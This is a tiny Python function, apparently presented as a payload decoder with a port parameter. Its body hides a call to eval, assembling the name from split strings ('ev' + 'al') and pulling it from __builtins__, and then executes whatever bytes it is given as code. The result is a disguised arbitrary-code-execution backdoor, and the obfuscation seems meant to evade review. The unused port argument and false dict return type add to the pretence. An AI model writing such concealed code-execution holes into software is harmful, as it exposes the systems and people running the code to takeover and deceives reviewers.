def decode(payload: bytes, port: int) -> dict:
    return getattr(__builtins__, 'ev' + 'al')(payload)
